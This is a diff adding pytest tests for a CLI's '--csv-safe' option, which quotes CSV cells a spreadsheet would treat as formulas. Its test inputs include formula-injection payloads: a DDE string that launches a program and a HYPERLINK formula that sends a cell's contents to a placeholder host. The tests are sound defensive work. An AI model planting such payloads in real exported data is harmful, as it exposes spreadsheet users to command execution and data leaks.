@@ -78,3 +78,54 @@ def test_health_by_check(capsys: pytest.CaptureFixture[str]) -> None:
     found = assess(facts(state([partition("123", "123")])))
     rows = _csv(capsys, found.checks)
     assert [row["check"] for row in rows] == [check.check for check in found.checks]
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("-", "'-"),
+        ("--", "'--"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\n=1", "'\n=1"),
+        ("\uff1d1", "'\uff1d1"),
+        ("-1", "-1"),
+        ("+1.5", "+1.5"),
+        ("-1e9", "-1e9"),
+        ("orders", "orders"),
+        ("a=b", "a=b"),
+        ("'=x", "'=x"),
+        ("", ""),
+        (-5, "-5"),
+        ([-1, 2], "'-1 2"),
+        (None, ""),
+    ],
+)
+def test_cells_that_a_spreadsheet_would_run(text: Any, safe: str, capsys: pytest.CaptureFixture[str]) -> None:
+    """Only with --csv-safe: programs get what there is."""
+    for on in (False, True):
+        output.protect_csv(on=on)
+        try:
+            output.emit([{"=name": text, "b": 1}], [], "csv")
+            output.stream([{"=name": text, "b": 1}], [], "csv")
+            whole = capsys.readouterr().out
+        finally:
+            output.protect_csv(on=False)
+        rows = list(csv.reader(io.StringIO(whole, newline="")))
+        as_it_is = " ".join(map(str, text)) if isinstance(text, list) else "" if text is None else str(text)
+        assert rows == [["'=name" if on else "=name", "b"], [safe if on else as_it_is, "1"]] * 2
+
+
+def test_the_option_is_of_one_run(capsys: pytest.CaptureFixture[str]) -> None:
+    from kctl.commands import app
+    from kctl.commands.output_values import _without_formula
+
+    app.main(["playbook", "list", "-o", "csv", "--csv-safe"])
+    assert _without_formula("=x") == "'=x"
+    app.main(["playbook", "list", "-o", "csv"])
+    assert _without_formula("=x") == "=x"
